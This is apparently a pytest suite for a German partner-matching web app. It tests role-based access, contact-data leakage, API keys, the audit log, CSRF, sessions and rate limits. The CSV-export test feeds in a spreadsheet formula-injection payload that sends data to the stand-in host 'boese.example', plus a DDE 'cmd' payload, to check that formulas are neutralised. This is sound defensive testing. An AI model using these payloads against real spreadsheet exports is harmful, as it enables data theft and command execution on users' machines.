"""Who may see and change what: every cell of the README's role matrix, over HTTP.

Roles: anonymous; member bound to kl-holz (Freital); manager of Mittelsachsen
(kl-laser, kl-wasser lie there); admin. kl-verborgen (Pirna) did not consent to be
listed. Each role calls with its own real API key; sessions and CSRF have tests below.
"""
from __future__ import annotations

import re

import pytest

from api import create_app
from tests.access_helpers import PASSWORD, api_key
from tests.conftest import CONTACT_MARKERS, copy_database, ids_of, make_radar, radar_on

ROLES = ("anonymous", "member", "manager", "admin")
CONTACT_KEYS = ("contact_name", "contact_email", "street")
NEW = {"name": "Kältetechnik Löbau GmbH", "kind": "kmu", "postcode": "02708", "town": "Löbau",
       "description": "Wir planen Kühlhäuser für Obstbaubetriebe mit Propan als Kältemittel.",
       "contact_email": "leitung@kontakt-geheim.example"}


@pytest.fixture(scope="module")
def access_template(tmp_path_factory, small_template, encoder):
    """profile_klein with one user and key per role (hashing passwords once per module)."""
    db = copy_database(small_template, tmp_path_factory.mktemp("access") / "access.db")
    radar = make_radar(db, encoder)
    keys = access_keys(radar)
    radar.store.close()
    return db, keys


def access_keys(radar) -> dict:
    return {"anonymous": None,
            "member": api_key(radar, "member", "holz@test.example", profile_id="kl-holz"),
            "manager": api_key(radar, "manager", "mittelsachsen@test.example", region=("Mittelsachsen",)),
            "admin": api_key(radar, "admin", "chef@test.example")}


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def access_deployment(request) -> str:
    """The reader's and writer's tests run on SQLite + FAISS and on PostgreSQL."""
    return request.param


@pytest.fixture(scope="module")
def pg_access(postgres, pg_small_template, encoder, tmp_path_factory) -> tuple[str, dict]:
    """access_template's users and keys in a PostgreSQL template database."""
    url = postgres.create_database("access_template", template=pg_small_template)
    radar = make_radar(tmp_path_factory.mktemp("pg-access") / "access.db", encoder, database_url=url)
    keys = access_keys(radar)
    radar.store.close()
    return url, keys


@pytest.fixture(scope="module")
def pg_access_template(pg_access) -> str:
    return pg_access[0]


@pytest.fixture(scope="module")
def reader(access_deployment, request, access_template, encoder, tmp_path_factory):
    """For tests that only read: one app for the module (per deployment)."""
    target = tmp_path_factory.mktemp("reader") / "reader.db"
    if access_deployment == "sqlite":
        radar, keys = make_radar(copy_database(access_template[0], target), encoder), access_template[1]
    else:
        postgres, (template, keys) = request.getfixturevalue("postgres"), request.getfixturevalue("pg_access")
        radar = make_radar(target, encoder, database_url=postgres.create_database(template=template))
    yield Client(create_app(radar.settings, radar=radar), keys), radar
    radar.store.close()
    if radar.settings.database_url:
        request.getfixturevalue("postgres").drop_database(radar.settings.database_url)


@pytest.fixture
def writer(access_deployment, request, access_template, encoder, tmp_path):
    """For tests that write: a database of their own (per deployment)."""
    radar = radar_on(access_deployment, request, access_template[0], "pg_access_template", tmp_path / "writer.db",
                     encoder)
    keys = access_template[1] if access_deployment == "sqlite" else request.getfixturevalue("pg_access")[1]
    return Client(create_app(radar.settings, radar=radar), keys), radar


class Client:
    """The test client, calling as one of the roles."""

    def __init__(self, app, keys):
        self.app = app
        self.http = app.test_client()
        self.keys = keys

    def __call__(self, role, method, url, **kwargs):
        headers = kwargs.pop("headers", {})
        if self.keys[role]:
            headers["Authorization"] = f"Bearer {self.keys[role]}"
        return self.http.open(url, method=method, headers=headers, **kwargs)


def leaks(response) -> list[str]:
    text = response.get_data(as_text=True)
    return [m for m in CONTACT_MARKERS if m in text] + [k for k in CONTACT_KEYS if f'"{k}"' in text]


# -- reading ------------------------------------------------------------------------

@pytest.mark.parametrize("role, sees_contact", [
    ("anonymous", False), ("member", False), ("manager", True), ("admin", True)])
def test_read_a_listed_profile(reader, role, sees_contact):
    client, _ = reader
    response = client(role, "GET", "/api/v1/profiles/kl-laser")
    assert response.status_code == 200
    body = response.get_json()
    assert body["name"] == "Laserfügetechnik Mittweida GmbH"
    if sees_contact:
        assert body["contact_email"] == "vertraulich.eins@kontakt-geheim.example"
    else:
        assert leaks(response) == []


@pytest.mark.parametrize("role, status", [("anonymous", 404), ("member", 404), ("manager", 200), ("admin", 200)])
def test_unlisted_profile_only_for_staff(reader, role, status):
    client, _ = reader
    response = client(role, "GET", "/api/v1/profiles/kl-verborgen")
    assert response.status_code == status
    if status == 404:
        # answered exactly like a profile that does not exist
        assert response.get_json() == client(role, "GET", "/api/v1/profiles/gibt-es-nicht").get_json() | {
            "message": "Profil „kl-verborgen“ nicht gefunden"}
        assert "Zahnradüberholung" not in response.get_data(as_text=True)
    else:
        assert response.get_json()["contact_name"] == "Jördis Geheimnißträger-Neun"


@pytest.mark.parametrize("role", ROLES)
def test_member_sees_contact_data_of_its_own_profile_only(reader, role):
    client, _ = reader
    body = client(role, "GET", "/api/v1/profiles/kl-holz").get_json()
    assert ("contact_name" in body) is (role != "anonymous")      # own profile, manager, admin
    other = client(role, "GET", "/api/v1/profiles/kl-baeck").get_json()
    assert ("contact_name" in other) is (role in ("manager", "admin"))


@pytest.mark.parametrize("role, status, sees_contact", [
    ("anonymous", 200, False), ("member", 200, False), ("manager", 200, True), ("admin", 200, True)])
def test_profile_list(reader, role, status, sees_contact):
    client, _ = reader
    response = client(role, "GET", "/api/v1/profiles?limit=100")
    assert response.status_code == status
    profiles = response.get_json()["profiles"]
    assert "kl-verborgen" not in [p["id"] for p in profiles]
    for p in profiles:
        own = role == "member" and p["id"] == "kl-holz"
        assert ("contact_email" in p) is (sees_contact or own), p["id"]


@pytest.mark.parametrize("role, status", [("anonymous", 401), ("member", 403), ("manager", 200), ("admin", 200)])
def test_profile_list_with_unlisted(reader, role, status):
    client, _ = reader
    response = client(role, "GET", "/api/v1/profiles?include_unlisted=true&limit=100")
    assert response.status_code == status
    body = response.get_json()
    if status == 200:
        assert "kl-verborgen" in [p["id"] for p in body["profiles"]] and body["total"] == 12
    else:
        assert body["message"] and "Zahnradüberholung" not in response.get_data(as_text=True)


SEARCHES = [
    {"query": "Ansprechpartnerin, Straße und E-Mail-Adresse für die Kontaktaufnahme", "limit": 100},
    {"query": "Jördis Geheimnißträger vertraulich kontakt-geheim Verschwiegenheitsgäßchen", "limit": 100},
    {"query": "Überholung von Zahnrädern und Getrieben", "limit": 100},
    {"query": "Laserstrahlschweißen", "seeker": "kl-laser", "include_known": True, "limit": 100},
]


def partner_side(results) -> str:
    """What a hit says about the partner (the query's own words, echoed back, left out)."""
    parts = []
    for hit in results:
        e = hit["explanation"]
        parts += [hit["name"], hit["town"] or "", e["best_sentence"], e["offers"], e["seeks"], *e["partner_terms"]]
        parts += [r.split(" – zu „")[0] for r in e["reasons"] if not r.startswith("Gemeinsame Begriffe")]
    return "\n".join(parts)


@pytest.mark.parametrize("role", ROLES)
@pytest.mark.parametrize("body", SEARCHES, ids=["kontakt", "namen", "unlisted", "seeker"])
def test_search_results_and_explanations_carry_no_contact_data(reader, role, body):
    client, _ = reader
    response = client(role, "POST", "/api/v1/search", json=body)
    assert response.status_code == 200
    results = response.get_json()["results"]
    assert results
    text = partner_side(results)
    assert [m for m in CONTACT_MARKERS if m in text] == []
    assert [k for k in CONTACT_KEYS if f'"{k}"' in response.get_data(as_text=True)] == []
    if not any(m in body["query"] for m in CONTACT_MARKERS):
        assert leaks(response) == []
    assert "kl-verborgen" not in ids_of(response.get_json()["results"])


@pytest.mark.parametrize("role, status", [("anonymous", 400), ("member", 400), ("manager", 200), ("admin", 200)])
def test_staff_may_search_unlisted_profiles_too(reader, role, status):
    client, _ = reader
    response = client(role, "POST", "/api/v1/search", json={
        "query": "Überholung von Zahnrädern und Getrieben", "include_unlisted": True})
    assert response.status_code == status
    if status == 200:
        assert "kl-verborgen" in ids_of(response.get_json()["results"])
        assert leaks(response) == []
    else:
        assert "include_unlisted" in response.get_json()["message"]


@pytest.mark.parametrize("role, status", [("anonymous", 404), ("member", 404), ("manager", 200), ("admin", 200)])
def test_partners_of_an_unlisted_profile(reader, role, status):
    client, _ = reader
    by_url = client(role, "GET", "/api/v1/profiles/kl-verborgen/partners")
    by_seeker = client(role, "POST", "/api/v1/search", json={"query": "Zahnräder", "seeker": "kl-verborgen"})
    assert by_url.status_code == by_seeker.status_code == status
    for response in (by_url, by_seeker):
        # the seeker's own sentences would show as query_sentence: none for those not entitled
        assert "Zahnr" not in response.get_data(as_text=True) or status == 200
        assert leaks(response) == []


@pytest.mark.parametrize("role", ROLES)
def test_partners_of_a_listed_profile_carry_no_contact_data(reader, role):
    client, _ = reader
    response = client(role, "GET", "/api/v1/profiles/kl-laser/partners?limit=100&include_known=true")
    assert response.status_code == 200 and leaks(response) == []


@pytest.mark.parametrize("role", ROLES)
def test_me_names_the_role(reader, role):
    client, _ = reader
    assert client(role, "GET", "/api/v1/me").get_json()["role"] == role


# -- Inno Slam planning: managers' work -------------------------------------------------

INNOSLAM_CALLS = [("audience", {"topic": "Laserstrahlschweißen von Aluminium", "top_districts": 3}),
                  ("programme", {"district": "Mittelsachsen", "n": 2}),
                  ("tour", {"scientist_ids": ["kl-schweissforschung"], "n_events": 1})]


@pytest.mark.parametrize("role, status", [("anonymous", 401), ("member", 403), ("manager", 200), ("admin", 200)])
@pytest.mark.parametrize("path, body", INNOSLAM_CALLS, ids=[c[0] for c in INNOSLAM_CALLS])
def test_inno_slam_planning_is_for_managers(reader, role, status, path, body):
    client, _ = reader
    response = client(role, "POST", f"/api/v1/innoslam/{path}", json=body)
    assert response.status_code == status, response.get_json()
    if status != 200:
        assert response.get_json()["message"] and "Laserfüge" not in response.get_data(as_text=True)
    assert leaks(response) == []


# -- writing ------------------------------------------------------------------------

@pytest.mark.parametrize("role, status", [("anonymous", 401), ("member", 403), ("manager", 201), ("admin", 201)])
def test_create_profile(writer, role, status):
    client, radar = writer
    response = client(role, "POST", "/api/v1/profiles", json={**NEW, "id": "neu-kaelte"})
    assert response.status_code == status, response.get_json()
    assert (radar.store.get_profile("neu-kaelte") is not None) is (status == 201)
    assert leaks(response) == []          # a write's answer is the public view


def test_member_creates_its_own_profile(writer, access_template, encoder):
    client, radar = writer
    key = api_key(radar, "member", "neu@test.example", profile_id="neu-kaelte")
    client.keys["neu"] = key
    assert client("neu", "POST", "/api/v1/profiles", json={**NEW, "id": "neu-kaelte"}).status_code == 201
    assert client("neu", "PUT", "/api/v1/profiles/neu-kaelte", json={"town": "Löbau"}).status_code == 200
    assert client("neu", "PUT", "/api/v1/profiles/kl-laser", json={"town": "Löbau"}).status_code == 403


@pytest.mark.parametrize("target, expected", [
    ("kl-laser", {"anonymous": 401, "member": 403, "manager": 200, "admin": 200}),     # Mittelsachsen
    ("kl-baeck", {"anonymous": 401, "member": 403, "manager": 403, "admin": 200}),     # Dresden
    ("kl-holz", {"anonymous": 401, "member": 200, "manager": 403, "admin": 200}),      # the member's own
    ("kl-verborgen", {"anonymous": 404, "member": 404, "manager": 403, "admin": 200}),  # unlisted, Pirna
])
@pytest.mark.parametrize("role", ROLES)
def test_update_profile(writer, role, target, expected):
    client, radar = writer
    before = radar.store.get_profile(target)["offers"]
    response = client(role, "PUT", f"/api/v1/profiles/{target}", json={"offers": "Neues Angebot für alle"})
    status = expected[role] if role != "anonymous" else 401
    assert response.status_code == status, response.get_json()
    after = radar.store.get_profile(target)["offers"]
    assert (after == "Neues Angebot für alle") is (status == 200)
    if status != 200:
        assert after == before and response.get_json()["message"]


@pytest.mark.parametrize("target, expected", [
    ("kl-laser", {"member": 403, "manager": 204, "admin": 204}),
    ("kl-baeck", {"member": 403, "manager": 403, "admin": 204}),
    ("kl-holz", {"member": 204, "manager": 403, "admin": 204}),
])
@pytest.mark.parametrize("role", ROLES)
def test_delete_profile(writer, role, target, expected):
    client, radar = writer
    response = client(role, "DELETE", f"/api/v1/profiles/{target}")
    status = expected.get(role, 401)
    assert response.status_code == status
    assert (radar.store.get_profile(target) is None) is (status == 204)


def test_manager_edits_what_it_created_outside_its_region(writer):
    client, _ = writer
    assert client("manager", "POST", "/api/v1/profiles", json={**NEW, "id": "loebau"}).status_code == 201
    # Löbau is in Görlitz, not in Mittelsachsen: allowed because this manager created it
    assert client("manager", "PUT", "/api/v1/profiles/loebau", json={"offers": "Kühlhäuser"}).status_code == 200
    assert client("manager", "DELETE", "/api/v1/profiles/loebau").status_code == 204


def test_key_scoped_below_its_user(writer):
    client, radar = writer
    from store.users import AccessError, Users
    users = Users(radar.store)
    chef = users.user_by_email("chef@test.example")
    _, secret = users.create_key(chef, role="manager")
    client.keys["scoped"] = secret
    assert client("scoped", "GET", "/api/v1/me").get_json()["role"] == "manager"
    # an admin's key scoped to manager (no region) can't touch Dresden
    assert client("scoped", "PUT", "/api/v1/profiles/kl-baeck", json={"offers": "x y z"}).status_code == 403
    member = users.user_by_email("holz@test.example")
    with pytest.raises(AccessError, match="nicht mehr dürfen"):
        users.create_key(member, role="admin")


@pytest.mark.parametrize("header", [
    "Bearer prk_000000000000_falsch", "Bearer ", "Basic Y2hlZjpnZWhlaW0=", "Bearer kein-schluessel"])
def test_bad_credentials_are_401_not_anonymous(reader, header):
    client, _ = reader
    response = client.http.get("/api/v1/profiles/kl-laser", headers={"Authorization": header})
    assert response.status_code == 401
    assert response.headers["WWW-Authenticate"].startswith("Bearer")
    assert response.get_json()["error"] == "unauthorized" and response.get_json()["message"]


def test_revoked_key_and_disabled_user_stop_at_once(writer):
    client, radar = writer
    from store.users import Users
    users = Users(radar.store)
    manager = users.user_by_email("mittelsachsen@test.example")
    key = users.create_key(manager)
    client.keys["k"] = key[1]
    assert client("k", "GET", "/api/v1/me").get_json()["role"] == "manager"
    assert users.revoke_key(key[0].id)
    assert client("k", "GET", "/api/v1/me").status_code == 401
    assert client("manager", "GET", "/api/v1/me").status_code == 200
    users.set_disabled(manager.id)
    assert client("manager", "GET", "/api/v1/me").status_code == 401


def test_api_keys_are_stored_only_as_hashes(access_template):
    db, keys = access_template
    raw = db.read_bytes() + (db.with_suffix(".db-wal").read_bytes() if db.with_suffix(".db-wal").exists() else b"")
    for key in filter(None, keys.values()):
        assert key.encode() not in raw and key.split("_", 2)[2].encode() not in raw
    assert PASSWORD.encode("utf-8") not in raw


# -- audit log ------------------------------------------------------------------------

@pytest.mark.parametrize("role, status", [("anonymous", 401), ("member", 403), ("manager", 200), ("admin", 200)])
def test_audit_log_readers(writer, role, status):
    client, _ = writer
    assert client(role, "GET", "/api/v1/audit").status_code == status
    assert client(role, "GET", "/api/v1/audit?format=csv").status_code == status


def test_every_write_is_in_the_audit_log(writer):
    client, _ = writer
    client("manager", "POST", "/api/v1/profiles", json={**NEW, "id": "neu-kaelte"})
    client("member", "PUT", "/api/v1/profiles/kl-holz", json={"offers": "Holzmodule"})
    client("admin", "DELETE", "/api/v1/profiles/kl-baeck")
    client("manager", "PUT", "/api/v1/profiles/kl-baeck", json={"offers": "verboten"})     # 404 now: no line
    entries = client("manager", "GET", "/api/v1/audit?limit=10").get_json()["entries"]
    lines = [(e["actor"].split(" ")[0], e["role"], e["action"], e["target"]) for e in entries]
    assert lines[:3] == [("chef@test.example", "admin", "profile.delete", "kl-baeck"),
                         ("holz@test.example", "member", "profile.update", "kl-holz"),
                         ("mittelsachsen@test.example", "manager", "profile.create", "neu-kaelte")]
    assert entries[1]["detail"] == "Felder: offers" and entries[0]["at"] >= entries[2]["at"]


def test_audit_csv_neutralises_formulas(writer):
    client, _ = writer
    evil = '=HYPERLINK("http://boese.example/?d="&A1,"Details")'
    client("admin", "POST", "/api/v1/profiles", json={**NEW, "id": "neu-kaelte", "offers": evil})
    client.app.extensions["users"].audit(evil, "admin", "-2+3", "@SUM(A1:A9)", "+cmd|' /C calc'!A0")
    response = client("admin", "GET", "/api/v1/audit?format=csv")
    assert response.mimetype == "text/csv"
    import csv
    import io
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    cells = [c for row in rows[1:] for c in row]
    assert "'" + evil in cells and "'-2+3" in cells and "'@SUM(A1:A9)" in cells
    assert not any(re.match(r"^\s*[=+\-@]", c) for c in cells)


# -- sessions, CSRF, cookies, rate limits ----------------------------------------------------

def _token(html: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


def _login(http, email, password):
    page = http.get("/anmelden")
    return http.post("/anmelden", data={"email": email, "passwort": password, "csrf_token": _token(page.get_data(as_text=True))})


def test_login_page_is_german_and_sets_a_hardened_cookie(writer):
    client, _ = writer
    client.app.config["SESSION_COOKIE_SECURE"] = True
    http = client.app.test_client()
    page = http.get("/anmelden")
    assert page.status_code == 200 and "Anmelden" in page.get_data(as_text=True)
    assert 'lang="de"' in page.get_data(as_text=True)
    response = _login(http, "mittelsachsen@test.example", PASSWORD)
    assert response.status_code == 302
    cookie = [h for h in response.headers.getlist("Set-Cookie") if h.startswith("partnerradar_session=")][0]
    assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=Lax" in cookie


def test_session_login_gives_the_role_and_writes_need_the_csrf_token(writer):
    client, radar = writer
    client.app.config["SESSION_COOKIE_SECURE"] = False     # the test client speaks plain HTTP
    http = client.app.test_client()
    assert _login(http, "mittelsachsen@test.example", "falsches-passwort").status_code == 401
    assert http.get("/api/v1/me").get_json()["role"] == "anonymous"
    assert _login(http, "mittelsachsen@test.example", PASSWORD).status_code == 302
    assert http.get("/api/v1/me").get_json()["role"] == "manager"
    assert "contact_email" in http.get("/api/v1/profiles/kl-laser").get_json()

    # a cross-site form post rides on the cookie but has no token: refused
    forged = http.put("/api/v1/profiles/kl-laser", json={"offers": "gefälscht"})
    assert forged.status_code == 400 and forged.get_json()["error"] == "csrf"
    assert radar.store.get_profile("kl-laser")["offers"] != "gefälscht"
    token = _token(http.get("/anmelden").get_data(as_text=True))
    ok = http.put("/api/v1/profiles/kl-laser", json={"offers": "echt"}, headers={"X-CSRFToken": token})
    assert ok.status_code == 200

    assert http.post("/abmelden").status_code == 400            # logout needs the token too
    assert http.post("/abmelden", data={"csrf_token": token}).status_code == 302
    assert http.get("/api/v1/me").get_json()["role"] == "anonymous"


def _server_with_config(config_text: str, db, encoder, tmp_path, name: str):
    """An app as ``partnerradar --config <file> serve`` builds it: settings from the file only."""
    from partnerradar.config import load_settings
    from partnerradar.radar import Radar

    site = tmp_path / f"{name}.toml"
    site.write_text(f'[partnerradar]\ndb_path = "{db}"\n' + config_text, encoding="utf-8")
    radar = Radar(load_settings(site, env={}), encoder=encoder)
    app = create_app(radar.settings, radar=radar)
    app.config["SESSION_COOKIE_SECURE"] = False
    return app


def _session_sid(app, cookie: str):
    """What ``app`` reads from this session cookie: the session id, or None for a bad signature."""
    from flask import session

    with app.test_request_context("/", headers={"Cookie": f"partnerradar_session={cookie}"}):
        return session.get("sid")


def test_the_session_cookie_is_signed_with_the_config_files_secret(access_template, encoder, tmp_path,
                                                                  monkeypatch):
    """``secret_key`` in the file given to ``--config`` signs the session cookies (it was read
    from the environment only, so each server signed with its own database's secret): a cookie
    of one server verifies in another started with the same file, not with another secret."""
    monkeypatch.delenv("PARTNERRADAR_SECRET_KEY", raising=False)
    first = _server_with_config('secret_key = "geheim-nur-in-site-toml"\n',
                                copy_database(access_template[0], tmp_path / "eins.db"), encoder, tmp_path, "eins")
    http = first.test_client()
    assert _login(http, "mittelsachsen@test.example", PASSWORD).status_code == 302
    assert http.get("/api/v1/me").get_json()["role"] == "manager"
    cookie = http.get_cookie("partnerradar_session").value
    sid = _session_sid(first, cookie)
    assert sid is not None

    same_file = _server_with_config('secret_key = "geheim-nur-in-site-toml"\n',
                                    copy_database(access_template[0], tmp_path / "zwei.db"), encoder, tmp_path, "zwei")
    other_secret = _server_with_config('secret_key = "ein-ganz-anderes-geheimnis"\n',
                                       copy_database(access_template[0], tmp_path / "drei.db"), encoder, tmp_path,
                                       "drei")

    assert _session_sid(same_file, cookie) == sid
    assert _session_sid(other_secret, cookie) is None


def _change_password(http, current, new, repeat=None):
    page = http.get("/konto/passwort")
    return http.post("/konto/passwort", data={"bisher": current, "neu": new, "wiederholung": repeat or new,
                                              "csrf_token": _token(page.get_data(as_text=True))})


def test_a_member_changes_the_password_and_other_sessions_end(writer):
    client, _ = writer
    client.app.config["SESSION_COOKIE_SECURE"] = False
    laptop, phone = client.app.test_client(), client.app.test_client()
    assert _login(laptop, "holz@test.example", PASSWORD).status_code == 302
    assert _login(phone, "holz@test.example", PASSWORD).status_code == 302

    changed = _change_password(laptop, PASSWORD, "Neues Passwort für die Zimmerei 2026")

    assert changed.status_code == 200 and "Ihr Passwort ist geändert." in changed.get_data(as_text=True)
    assert laptop.get("/api/v1/me").get_json()["role"] == "member"        # this session goes on
    assert phone.get("/api/v1/me").get_json()["role"] == "anonymous"      # the other one ended
    assert _login(client.app.test_client(), "holz@test.example", PASSWORD).status_code == 401
    assert _login(client.app.test_client(), "holz@test.example",
                  "Neues Passwort für die Zimmerei 2026").status_code == 302


@pytest.mark.parametrize("current, new, repeat, message", [
    ("falsch-falsch-falsch", "Neues Passwort 2026!", None, "Das bisherige Passwort stimmt nicht."),
    (PASSWORD, "kurz", None, "Das Passwort ist zu kurz (mindestens 10 Zeichen)."),
    (PASSWORD, "Neues Passwort 2026!", "Neues Passwort 2027!", "Die beiden neuen Passwörter stimmen nicht überein."),
    (PASSWORD, PASSWORD, None, "Das neue Passwort muss sich vom bisherigen unterscheiden."),
])
def test_a_refused_password_change_says_why_in_german_and_changes_nothing(writer, current, new, repeat, message):
    client, _ = writer
    client.app.config["SESSION_COOKIE_SECURE"] = False
    http = client.app.test_client()
    _login(http, "holz@test.example", PASSWORD)

    refused = _change_password(http, current, new, repeat)

    assert refused.status_code == 400 and message in refused.get_data(as_text=True)
    assert _login(client.app.test_client(), "holz@test.example", PASSWORD).status_code == 302


def test_the_password_page_is_for_people_who_are_logged_in(writer):
    client, _ = writer
    anonymous = client.app.test_client().get("/konto/passwort")
    assert anonymous.status_code == 302 and anonymous.headers["Location"].startswith("/anmelden?weiter=")
    with_key = client("member", "GET", "/konto/passwort")
    assert with_key.status_code == 302


def test_login_form_without_csrf_token_is_refused(writer):
    client, _ = writer
    response = client.app.test_client().post("/anmelden", data={"email": "chef@test.example", "passwort": PASSWORD})
    assert response.status_code == 400 and "CSRF" in response.get_json()["message"]


def test_login_redirects_only_within_the_site(writer):
    client, _ = writer
    client.app.config["SESSION_COOKIE_SECURE"] = False
    http = client.app.test_client()
    token = _token(http.get("/anmelden").get_data(as_text=True))
    answer = http.post("/anmelden", data={"email": "chef@test.example", "passwort": PASSWORD,
                                          "csrf_token": token, "weiter": "//boese.example/"})
    assert answer.headers["Location"] == "/anmelden"


def test_search_is_rate_limited_per_key(writer):
    client, _ = writer
    client.app.config["SEARCH_RATE_LIMIT"] = "3 per minute"
    body = {"query": "Laserstrahlschweißen"}
    assert [client("member", "POST", "/api/v1/search", json=body).status_code for _ in range(4)] == [200] * 3 + [429]
    limited = client("member", "POST", "/api/v1/search", json=body)
    assert limited.status_code == 429
    assert limited.get_json()["message"] == "Zu viele Anfragen (höchstens 3 pro Minute); bitte kurz warten."
    assert client("manager", "POST", "/api/v1/search", json=body).status_code == 200    # its own budget
    assert client("member", "GET", "/api/v1/profiles/kl-laser/partners").status_code == 429   # one budget


def test_login_is_rate_limited_per_ip(writer):
    client, _ = writer
    client.app.config["LOGIN_RATE_LIMIT"] = "5 per minute"
    http = client.app.test_client()
    codes = [_login(http, "chef@test.example", f"rate-{i}-falsch").status_code for i in range(6)]
    assert codes == [401] * 5 + [429]
    assert _login(http, "chef@test.example", PASSWORD).status_code == 429    # even the right password waits


# -- command line --------------------------------------------------------------------

def test_cli_creates_users_and_keys_without_any_default(tmp_path, cli_encoder):
    from click.testing import CliRunner

    from partnerradar.cli import main
    db = str(tmp_path / "cli.db")
    run = CliRunner().invoke
    assert run(main, ["user", "add", "chef@example.org", "--role", "admin", "--password-stdin", "--db", db],
               input="kurz\n").exit_code == 2                                         # too short
    added = run(main, ["user", "add", "chef@example.org", "--role", "admin", "--db", db],
                input="ein-langes-passwort\nein-langes-passwort\n")
    assert added.exit_code == 0, added.output
    made = run(main, ["key", "create", "chef@example.org", "--db", db])
    assert made.exit_code == 0
    secret = made.stdout.strip().splitlines()[0]
    assert secret.startswith("prk_") and "nur jetzt angezeigt" in made.stderr
    bad_region = run(main, ["user", "add", "m@example.org", "--role", "manager", "--region", "Oberbayern",
                            "--password-stdin", "--db", db], input="ein-langes-passwort\n")
    assert bad_region.exit_code == 2 and "Unbekannter Landkreis" in bad_region.stderr
    listed = run(main, ["key", "list", "--db", db]).stdout
    assert "aktiv" in listed and secret not in listed
    key_id = secret.split("_")[1]
    assert run(main, ["key", "revoke", key_id, "--db", db]).exit_code == 0
    assert run(main, ["key", "revoke", key_id, "--db", db]).exit_code == 1
    radar = make_radar(tmp_path / "cli.db", cli_encoder)
    app = create_app(radar.settings, radar=radar)
    assert app.test_client().get("/api/v1/me", headers={"Authorization": f"Bearer {secret}"}).status_code == 401
    actions = [e["action"] for e in app.extensions["users"].audit_entries()[0]]
    assert actions == ["key.revoke", "key.create", "user.add"]


def test_an_admin_sets_a_forgotten_password_from_the_command_line(writer, cli_encoder):
    from click.testing import CliRunner

    from partnerradar.cli import main
    client, radar = writer
    client.app.config["SESSION_COOKIE_SECURE"] = False
    session = client.app.test_client()
    assert _login(session, "holz@test.example", PASSWORD).status_code == 302
    db = str(radar.settings.db_path)
    run = CliRunner().invoke

    unknown = run(main, ["user", "password", "niemand@test.example", "--password-stdin", "--db", db],
                  input="Ersatzpasswort-2026\n")
    reset = run(main, ["user", "password", "holz@test.example", "--db", db],
                input="Ersatzpasswort-2026\nErsatzpasswort-2026\n")

    assert unknown.exit_code == 2 and "gibt es nicht" in unknown.stderr
    assert reset.exit_code == 0 and "alle Sitzungen sind beendet" in reset.stderr
    assert session.get("/api/v1/me").get_json()["role"] == "anonymous"
    assert _login(client.app.test_client(), "holz@test.example", "Ersatzpasswort-2026").status_code == 302


def test_a_users_table_from_before_password_changes_is_upgraded_and_logins_go_on(writer):
    client, radar = writer
    conn = radar.store.conn
    conn.execute("ALTER TABLE users DROP COLUMN password_changed_at")    # as an older release left it
    from store.users import Users

    users = Users(radar.store)

    assert users.user_by_email("holz@test.example").password_changed_at == 0.0
    client.app.config["SESSION_COOKIE_SECURE"] = False
    assert _login(client.app.test_client(), "holz@test.example", PASSWORD).status_code == 302
